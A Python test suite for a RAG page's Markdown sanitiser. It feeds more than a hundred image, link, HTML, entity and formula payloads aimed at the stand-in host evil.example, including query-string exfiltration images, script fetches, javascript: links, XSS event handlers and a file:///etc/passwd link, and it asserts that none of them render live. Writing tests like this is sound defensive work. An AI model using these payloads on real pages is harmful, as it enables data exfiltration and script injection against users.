"""Every way to write a picture, a link or an element: as an answer streams, the page never draws one that lives.

The page draws `block(text so far)` again and again. A real Markdown parser reads what it would draw for each prefix of
each form, alone and amid other text: whatever comes out is text, code, bold, bullets, paragraphs.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.page.sanitise import block, inline, literal
from tests.test_sanitise import assert_dead

U = "https://evil.example"
FORMS: dict[str, str] = {
    "image": f"![a]({U}/p.png)",
    "image-empty": f"![]({U}/p.png)",
    "image-spaces": f"![a]( {U}/p.png )",
    "image-angle": f"![a](<{U}/p q.png>)",
    "image-single-title": f"![a]({U}/p.png 't')",
    "image-paren-title": f"![a]({U}/p.png (t))",
    "image-nested-brackets": f"![a [b] c]({U}/p.png)",
    "image-parens-in-address": f"![a]({U}/p_(1).png)",
    "image-no-scheme": "![a](//evil.example/p.png)",
    "image-upper-scheme": "![a](HTTPS://EVIL.EXAMPLE/P.PNG)",
    "image-backslashes": "![a](https:\\\\evil.example\\p.png)",
    "image-entity-address": "![a](&#104;ttps://evil.example/p.png)",
    "image-percent": "![a](https%3A//evil.example/p.png)",
    "image-data": "![a](data:image/png;base64,iVBORw0KGgo=)",
    "image-query": f"![a]({U}/p?q=the+question)",
    "image-line-break": f"![a\nb]({U}/p.png)",
    "image-address-on-next-line": f"![a](\n{U}/p.png\n)",
    "image-full-reference": f"![a][r]\n\n[r]: {U}/p.png",
    "image-collapsed-reference": f"![r][]\n\n[r]: {U}/p.png",
    "image-shortcut-reference": f"![r]\n\n[r]: <{U}/p.png> 't'",
    "image-reference-first": f"[r]: {U}/p.png\n\n![r]",
    "image-reference-in-quote": f"> [r]: {U}/p.png\n\n![r]",
    "image-in-link": f"[![a]({U}/p.png)]({U})",
    "image-in-heading": f"# ![a]({U}/p.png)",
    "image-in-setext": f"![a]({U}/p.png)\n===",
    "image-in-cell": f"| a |\n|:-:|\n| ![a]({U}/p.png) |",
    "image-in-task": f"- [ ] ![a]({U}/p.png)",
    "image-in-numbered": f"1. ![a]({U}/p.png)",
    "image-in-nested-list": f"- a\n  - b\n    - ![a]({U}/p.png)",
    "image-in-emphasis": f"***![a]({U}/p.png)***",
    "image-in-strike": f"~~![a]({U}/p.png)~~",
    "image-after-code": f"`x`![a]({U}/p.png)`y`",
    "image-after-open-fence": f"```\nx\n```![a]({U}/p.png)",
    "image-after-tilde-fence": f"~~~\nx\n~~~\n![a]({U}/p.png)",
    "image-after-code-of-two": f"``a`b`` ![a]({U}/p.png) ``c``",
    "image-escaped-twice": f"\\\\![a]({U}/p.png)",
    "image-size": f"![a]({U}/p.png =10x10)",
    "image-attributes": f"![a]({U}/p.png){{width=1}}",
    "wiki-image": "![[https://evil.example/p.png]]",
    "link": f"[a]({U})",
    "link-empty": f"[]({U})",
    "link-title": f'[a]({U} "t")',
    "link-relative": "[a](/library)",
    "link-hash": "[a](#x)",
    "link-javascript": "[a](javascript:alert(1))",
    "link-javascript-entity": "[a](java&#x0A;script:alert(1))",
    "link-javascript-tab": "[a](java\tscript:alert(1))",
    "link-vbscript": "[a](vbscript:msgbox(1))",
    "link-file": "[a](file:///etc/passwd)",
    "link-data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "link-mail": "[a](mailto:a@evil.example?body=x)",
    "link-phone": "[a](tel:+34900000000)",
    "link-full-reference": f"[a][r]\n\n[r]: {U}",
    "link-shortcut-reference": f"[r]\n\n[r]: {U}",
    "link-footnote": f"a[^1]\n\n[^1]: {U}",
    "link-inline-footnote": f"a^[{U}]",
    "link-mark-of-a-source": f"As said [1].\n\n[1]: {U}",
    "wiki-link": "[[https://evil.example|a]]",
    "autolink": f"<{U}>",
    "autolink-mail": "<a@evil.example>",
    "autolink-other-scheme": "<irc://evil.example/x>",
    "bare": f"see {U}/a?b=c&d=e.",
    "bare-www": "see www.evil.example/a",
    "bare-ftp": "see ftp://evil.example",
    "bare-mail": "see a.b+c@evil.example",
    "bare-xmpp": "see xmpp:a@evil.example",
    "bare-in-quotes": f"«{U}»",
    "bare-in-bold": f"**{U}**",
    "bare-in-wide-letters": "ｈｔｔｐｓ://evil.example",
    "html-script": "<script>fetch('https://evil.example')</script>",
    "html-script-address": f"<script src={U}/a.js></script>",
    "html-image": f"<img src='{U}/p.png' onerror=alert(1)>",
    "html-image-slashes": f"<img/src={U}/p.png/>",
    "html-image-broken-lines": f"<img\nsrc='{U}/p.png'\n>",
    "html-picture": f"<picture><source srcset={U}/p.png></picture>",
    "html-iframe": f"<iframe src={U}></iframe>",
    "html-iframe-document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "html-object": f"<object data={U}/a.swf></object>",
    "html-embed": f"<embed src={U}>",
    "html-svg": f"<svg><image href='{U}/p.svg'/></svg>",
    "html-svg-script": "<svg><script>alert(1)</script></svg>",
    "html-svg-animate": "<svg><animate onbegin=alert(1) attributeName=x>",
    "html-math": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "html-style": f"<style>@import '{U}/a.css'</style>",
    "html-style-attribute": f"<p style='background:url({U}/p.png)'>",
    "html-link": f"<link rel=stylesheet href={U}/a.css>",
    "html-base": f"<base href={U}>",
    "html-meta": f"<meta http-equiv=refresh content='0;url={U}'>",
    "html-form": f"<form action={U}><input autofocus onfocus=submit()></form>",
    "html-anchor": f"<a href='{U}'>a</a>",
    "html-video": f"<video poster={U}/p.png src={U}/v.mp4>",
    "html-details": "<details open ontoggle=alert(1)>",
    "html-comment": f"<!-- ![a]({U}/p.png) -->",
    "html-conditional": f"<!--[if IE]><img src={U}><![endif]-->",
    "html-cdata": f"<![CDATA[<img src={U}>]]>",
    "html-processing": "<?php system('id') ?>",
    "html-declaration": f"<!ENTITY x SYSTEM '{U}'>",
    "html-unknown-element": f"<x-evil src={U}>",
    "html-in-bullet": f"- <img src={U}/p.png>",
    "html-in-bold": f"**<img src={U}/p.png>**",
    "html-after-code": f"`a`<img src={U}/p.png>`b`",
    "entity-element": "&lt;img src=x onerror=alert(1)&gt;",
    "entity-decimal": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "entity-hex": "&#x3c;img src=x&#x3e;",
    "entity-image": "&#33;[a](https://evil.example/p.png)",
    "entity-no-semicolon": "&lt&#60 &colon;//",
    "directive-colour": ":red[a]",
    "directive-link-inside": f":blue-background[[a]({U})]",
    "directive-badge": ":green-badge[✓ verified]",
    "directive-small": ":small[a]",
    "directive-block": f":::note\n![a]({U}/p.png)\n:::",
    "icon": ":material/home:",
    "emoji-name": ":smile: :+1:",
    "formula": "$\\href{https://evil.example}{a}$",
    "formula-block": "$$\\includegraphics{https://evil.example/p.png}$$",
    "formula-brackets": "\\[\\url{https://evil.example}\\]",
    "mermaid": f"```mermaid\ngraph TD; A-->B; click A '{U}'\n```",
    "front-matter": "---\ntitle: x\n---\n# a",
    "null-inside": "![a\0](https://evil.example/p.png)",
    "invisible-inside": "!\u200b[a](https://evil.example/p.png)",
    "line-separator": "![a]\u2028(https://evil.example/p.png)",
    "turned-round": "\u202e)gnp.p/elpmaxe.live//:sptth(]a[!",
    "return-inside": "[a]\r(https://evil.example)",
}
AMID = ("{}", "Before {} and after.", "One.\n\n{}\n\nTwo.", "- item {}\n- next", "**bold {} bold**", "`code {} code`")


class Elements(HTMLParser):
    """The elements that a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {tag, *(f"@{name}" for name, _ in attrs)}


def drawn(markdown: str) -> set[str]:
    """Elements and attributes of the page for some Markdown, by a renderer that lets raw HTML through."""
    elements = Elements()
    elements.feed(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown))
    elements.close()
    return elements.found


HARMLESS = {"p", "br", "ul", "li", "strong", "code", "pre", "@class"}


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS.keys())
def test_no_prefix_of_a_form_lives(form: str) -> None:
    for frame in AMID:
        text = frame.format(form)
        for end in range(len(text) + 1):
            shown = block(text[:end])
            assert_dead(shown)
        assert drawn(block(text)) <= HARMLESS


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS.keys())
def test_a_form_is_dead_as_a_label_and_as_a_page_of_a_document(form: str) -> None:
    for show in (inline, literal):
        assert_dead(show(form))
        assert drawn(show(form)) <= HARMLESS


def test_there_are_enough_forms_and_most_live_without_care() -> None:
    """Else the tests above would prove nothing."""
    assert len(FORMS) >= 100
    assert sum(bool(drawn(form) - HARMLESS) for form in FORMS.values()) >= 60


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.sampled_from(sorted(FORMS.values())), min_size=2, max_size=4),
    st.sampled_from(["", " ", "\n", "\n\n"]),
)
def test_forms_one_after_another_do_not_wake_each_other(forms: list[str], between: str) -> None:
    text = between.join(forms)
    for end in range(0, len(text) + 1, 3):
        assert_dead(block(text[:end]))
    assert drawn(block(text)) <= HARMLESS
